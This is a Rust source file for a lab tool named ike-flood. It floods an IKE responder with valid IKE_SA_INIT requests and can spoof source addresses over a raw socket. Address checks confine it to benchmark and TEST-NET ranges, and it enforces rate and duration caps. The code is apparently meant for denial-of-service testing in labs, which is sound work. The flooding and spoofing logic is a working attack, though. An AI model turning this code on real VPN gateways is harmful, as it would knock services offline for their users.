//! ike-flood: a bounded IKE_SA_INIT flood for the DoS labs. Sends valid
//! IKE_SA_INIT requests (x25519 KE, fresh initiator SPI each) at a fixed
//! rate for a fixed time, either from one real address (a UDP socket) or
//! from spoofed source addresses (a raw socket, `--spoof BASE/COUNT`). It
//! never answers cookies: it is the attacker that cannot see replies.
//!
//! ike-flood --to ADDR --rate N --secs S (--from ADDR | --spoof BASE --count N)
//!
//! Only run it inside a lab's namespaces (198.18.0.0/15 and TEST-NET).
//! Prints `sent N datagrams in S s` and exits 0.

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::os::fd::{FromRawFd, OwnedFd};
use std::sync::Arc;
use std::time::{Duration, Instant};

use ike::config::{parse_identity, ChildConfig, Mode, PeerConfig, Psk, Retransmit};
use ike::crypto::SystemRandom;
use ike::proposal::ProposalSpec;
use ike::sa::IkeSa;

/// Hard bounds, whatever the arguments say.
const MAX_RATE: u64 = 50_000;
const MAX_SECS: u64 = 120;

struct Args {
    to: Ipv4Addr,
    rate: u64,
    secs: u64,
    from: Option<Ipv4Addr>,
    spoof: Option<(Ipv4Addr, u32)>,
}

fn parse_args() -> Result<Args, String> {
    let mut it = std::env::args().skip(1);
    let (mut to, mut rate, mut secs, mut from, mut base, mut count) =
        (None, None, None, None, None, 1024u32);
    while let Some(a) = it.next() {
        let mut val = || it.next().ok_or(format!("{a} needs a value"));
        match a.as_str() {
            "--to" => to = Some(val()?.parse().map_err(|e| format!("--to: {e}"))?),
            "--rate" => rate = Some(val()?.parse().map_err(|e| format!("--rate: {e}"))?),
            "--secs" => secs = Some(val()?.parse().map_err(|e| format!("--secs: {e}"))?),
            "--from" => from = Some(val()?.parse().map_err(|e| format!("--from: {e}"))?),
            "--spoof" => base = Some(val()?.parse().map_err(|e| format!("--spoof: {e}"))?),
            "--count" => count = val()?.parse().map_err(|e| format!("--count: {e}"))?,
            other => return Err(format!("unknown argument {other}")),
        }
    }
    let to: Ipv4Addr = to.ok_or("--to is required")?;
    let in_lab = |a: Ipv4Addr| {
        let o = a.octets();
        (o[0] == 198 && (o[1] == 18 || o[1] == 19))
            || (o[0], o[1], o[2]) == (192, 0, 2)
            || (o[0], o[1], o[2]) == (198, 51, 100)
            || (o[0], o[1], o[2]) == (203, 0, 113)
    };
    if !in_lab(to) || from.is_some_and(|f| !in_lab(f)) || base.is_some_and(|b| !in_lab(b)) {
        return Err("addresses must be in 198.18.0.0/15 or TEST-NET".into());
    }
    let rate: u64 = rate.ok_or("--rate is required")?;
    let secs: u64 = secs.ok_or("--secs is required")?;
    if rate == 0 || rate > MAX_RATE || secs == 0 || secs > MAX_SECS {
        return Err(format!(
            "--rate 1..{MAX_RATE} and --secs 1..{MAX_SECS} (a bounded flood)"
        ));
    }
    if from.is_some() == base.is_some() {
        return Err("give exactly one of --from ADDR and --spoof BASE".into());
    }
    if count == 0 || count > 65_536 {
        return Err("--count 1..65536".into());
    }
    Ok(Args {
        to,
        rate,
        secs,
        from,
        spoof: base.map(|b| (b, count)),
    })
}

/// One valid IKE_SA_INIT request from `from` to `to`.
fn template(from: Ipv4Addr, to: Ipv4Addr) -> Vec<u8> {
    let id = |s: &str| parse_identity(s).expect("identity");
    let config = PeerConfig {
        name: "flood".into(),
        local_id: id("flood.test"),
        remote_id: Some(id("target.test")),
        psk: Some(Psk::new(b"flood".to_vec())),
        pubkey: None,
        ike_proposals: ProposalSpec::parse_ike_list("aes256gcm16-prfsha256-x25519")
            .expect("proposal"),
        children: vec![ChildConfig {
            name: "net".into(),
            local_ts: vec![ike::ts::parse_ts("198.19.200.0/24").expect("ts")],
            remote_ts: vec![ike::ts::parse_ts("198.19.201.0/24").expect("ts")],
            esp_proposals: ProposalSpec::parse_esp_list("aes256gcm16").expect("esp"),
            mode: Mode::Tunnel,
            pfs_required: false,
        }],
        encap: false,
        retransmit: Retransmit {
            timeout: Duration::from_secs(1),
            tries: 1,
            max_timeout: Duration::from_secs(1),
        },
        initial_contact: false,
        max_child_sas: ike::config::DEFAULT_MAX_CHILD_SAS,
        fragment_size: ike::config::DEFAULT_FRAGMENT_SIZE,
    };
    let mut sa = IkeSa::initiate(
        Instant::now(),
        Arc::new(config),
        SocketAddr::new(from.into(), 500),
        SocketAddr::new(to.into(), 500),
        Box::new(SystemRandom::new()),
        &["net"],
    );
    sa.poll_transmit().expect("IKE_SA_INIT").data
}

/// An IPv4 + UDP header for `payload` (the kernel fills in the IP checksum
/// and, with a zero UDP checksum, none is needed).
fn ip_udp(src: Ipv4Addr, dst: Ipv4Addr, payload: &[u8]) -> Vec<u8> {
    let total = 20 + 8 + payload.len();
    let mut p = Vec::with_capacity(total);
    p.extend_from_slice(&[0x45, 0]);
    p.extend_from_slice(&(total as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0, 0x40, 0, 64, 17, 0, 0]);
    p.extend_from_slice(&src.octets());
    p.extend_from_slice(&dst.octets());
    p.extend_from_slice(&500u16.to_be_bytes());
    p.extend_from_slice(&500u16.to_be_bytes());
    p.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0]);
    p.extend_from_slice(payload);
    p
}

fn raw_socket() -> std::io::Result<OwnedFd> {
    // SAFETY: plain socket(2); the descriptor is owned from here on.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    // SAFETY: fd is a fresh descriptor nobody else owns.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn send_raw(fd: &OwnedFd, dst: Ipv4Addr, packet: &[u8]) {
    use std::os::fd::AsRawFd;
    let sin = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(dst.octets()),
        },
        sin_zero: [0; 8],
    };
    // SAFETY: packet and sin outlive the call; the lengths are theirs.
    unsafe {
        libc::sendto(
            fd.as_raw_fd(),
            packet.as_ptr().cast(),
            packet.len(),
            libc::MSG_DONTWAIT,
            (&sin as *const libc::sockaddr_in).cast(),
            std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
        );
    }
}

fn main() {
    let args = match parse_args() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("ike-flood: {e}");
            std::process::exit(2);
        }
    };
    let payload = template(args.from.unwrap_or(Ipv4Addr::new(198, 18, 0, 99)), args.to);
    let udp = args.from.map(|f| {
        let s = UdpSocket::bind(SocketAddr::new(f.into(), 0)).expect("bind --from");
        s.set_nonblocking(true).expect("nonblocking");
        s
    });
    let raw = args
        .spoof
        .map(|_| raw_socket().expect("raw socket (root?)"));
    let total = args.rate * args.secs;
    let start = Instant::now();
    let mut sent = 0u64;
    let mut data = payload.clone();
    while sent < total {
        // Pace in 1 ms steps: send what is due, then sleep.
        let due = (start.elapsed().as_secs_f64() * args.rate as f64) as u64;
        while sent < due.min(total) {
            sent += 1;
            data[..8].copy_from_slice(&sent.to_be_bytes());
            if let Some(s) = &udp {
                let _ = s.send_to(&data, SocketAddr::new(args.to.into(), 500));
            }
            if let (Some(fd), Some((base, count))) = (&raw, args.spoof) {
                let src = Ipv4Addr::from(u32::from(base) + (sent % count as u64) as u32);
                send_raw(fd, args.to, &ip_udp(src, args.to, &data));
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    println!(
        "sent {sent} datagrams in {:.1} s",
        start.elapsed().as_secs_f64()
    );
}
